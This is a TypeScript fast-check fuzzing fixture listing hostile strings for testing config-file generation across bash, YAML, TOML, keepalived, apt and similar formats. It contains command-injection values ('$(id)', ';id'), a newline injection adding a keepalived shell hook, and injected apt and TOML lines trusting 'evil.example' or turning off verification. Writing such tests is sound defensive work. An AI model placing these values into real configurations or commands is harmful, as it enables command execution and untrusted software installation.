import fc from 'fast-check';

/**
 * Strings an attacker (or a careless paste) puts into a project file: every metacharacter of the
 * formats Keelson writes — bash, sed, YAML, TOML, keepalived, haproxy, nginx, apt, dnf, systemd,
 * /etc/hosts — control characters, Unicode separators, placeholders and very long text.
 */
export const HOSTILE: readonly string[] = [
  '\n',
  'a\nb',
  'eth0\n    notify_master "/bin/sh -c id"',
  'http://10.77.0.1/m\ndeb [trusted=yes] http://evil.example/ /',
  'registry.example\ne\n',
  'https://m.example"]\n  skip_verify = true\n[host."https://evil.example',
  '"',
  "'",
  '$(id)',
  '`id`',
  ';id',
  '&& id',
  '|id',
  '#x',
  '!x',
  '}',
  '{',
  ']',
  '[x]',
  '[trusted=yes]',
  '\0',
  'a\0b',
  '\x1b[31mred\x1b[0m',
  '\x7f',
  '\u0085',
  '\u2028',
  '\u2029',
  '\u202e',
  '\ufeff',
  '\r',
  '\t',
  'a b',
  '\\',
  '\\n',
  '${X}',
  '$X',
  '%h',
  '%%',
  'a=b',
  'a:b',
  'a/b',
  '..',
  '.',
  '-',
  '--help',
  '*',
  '?',
  '@x',
  '~x',
  '<x>',
  '&amp;',
  '{{secret:etcd-ca-key}}',
  '{{value:ca-cert-hash}}',
  'x'.repeat(100_000),
  'é',
  '\u00a0',
  'ü.example',
  '%0a',
  'null',
  '~',
  '- x',
  ': x',
  '!!python/object',
  '&a',
  '*a',
  '|',
  '>',
];

const META = [...new Set(HOSTILE.filter((s) => s.length < 50).flatMap((s) => [...s]))];

/** Plausible values a hostile suffix or prefix is glued to, so formats cannot reject on shape alone. */
const PLAUSIBLE = [
  'cp1',
  'eth0',
  '10.77.0.11',
  'http://10.77.0.1:8080/mirror',
  'https://mirror.lab.example:5000',
  'registry.lab.example:5000/k8s',
  'example.com/zone',
  'api.lab.example',
  '10.244.0.0/16',
  'cluster.local',
  'root',
  '~/.ssh/id_ed25519',
  'lab-vrrp',
  '1.35',
];

/** Random hostile strings: plausible value + metacharacters in front, inside or behind. */
export const hostileArb: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc
    .tuple(
      fc.constantFrom(...PLAUSIBLE),
      fc.array(fc.constantFrom(...META), { minLength: 1, maxLength: 6 }).map((a) => a.join('')),
      fc.constantFrom('prefix', 'suffix', 'middle'),
    )
    .map(([good, bad, where]) => {
      if (where === 'prefix') return bad + good;
      if (where === 'suffix') return good + bad;
      const half = Math.floor(good.length / 2);
      return good.slice(0, half) + bad + good.slice(half);
    }),
  fc.string({ unit: 'binary', maxLength: 30 }),
);
